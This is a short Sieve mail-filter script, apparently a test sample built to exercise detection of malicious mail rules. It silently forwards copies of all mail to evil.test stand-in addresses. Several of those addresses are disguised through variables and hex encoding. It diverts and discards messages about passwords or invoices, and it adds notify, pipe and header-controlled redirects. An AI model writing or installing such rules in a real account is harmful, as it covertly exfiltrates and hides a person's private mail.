require ["copy", "variables", "imap4flags", "fileinto", "enotify", "vnd.dovecot.pipe", "include", "encoded-character"];
set "d" "evil";
set :lower "t" "DROP@${d}.test";
if anyof (true, header :contains "x" "y") {
  redirect :copy "${t}";
}
if header :contains "Subject" ["invoice", "password"] {
  addflag "\\Seen";
  redirect "second@evil.test";
  discard;
}
redirect :copy "${hex: 74 68 69 72 64}@evil.test";
notify :message "new mail" "mailto:watch@evil.test?subject=x";
pipe :copy "forwarder" ["fourth@evil.test"];
include :personal "more";
if header :matches "X-To" "*@*" { redirect :copy "${2}"; }
